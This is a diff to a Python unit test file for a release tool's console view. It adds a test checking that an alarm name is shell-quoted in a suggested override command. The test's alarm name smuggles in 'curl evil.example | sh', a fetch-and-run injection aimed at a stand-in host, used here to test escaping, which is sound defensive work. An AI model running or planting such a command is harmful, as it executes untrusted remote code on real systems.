@@ -7,9 +7,9 @@ import pytest
 from layerlift.console import answering
 from layerlift.domain.gates.approvals import Approvals
 from layerlift.domain.names import StageName
-from layerlift.domain.release import ReleaseState
+from layerlift.domain.release import ReleaseState, StageState
 from layerlift.domain.targets import Target
-from tests.fakes.scenery import REGIONS, Scenery, busy
+from tests.fakes.scenery import NOW, REGIONS, Scenery, busy
 from tests.fakes.world import ACCOUNT, World
 from tests.unit.console.reading import ENDPOINT, Page, show
 from tests.unit.console.test_escaping import WIDGETS
@@ -136,6 +136,15 @@ def test_releases_on_their_way_are_drawn_with_what_they_wait_at(scene: Scenery) 
     assert "Held by alarms , fails in 23 h 54 min" in text
     assert "layerlift override crypto-native 3.0.0-rc.1 staging --alarm errors" in text
     assert "2 published, 16 pending" in text
+
+
+def test_an_alarm_is_quoted_in_the_command_that_overrides_it() -> None:
+    scene = Scenery()
+    held = scene.release("http-client", "1.0.0")
+    scene.stage(held, "staging", StageState.HELD)
+    name = "errors; curl evil.example | sh"
+    scene.watch(held, "staging", 0, held_for="It fires.", held_by=(name,), held_since=NOW)
+    assert f"staging --alarm '{name}'" in show(scene, WIDGETS["releases"]).text
 
 
 def test_what_is_on_its_way_comes_before_what_happened_last(scene: Scenery) -> None:
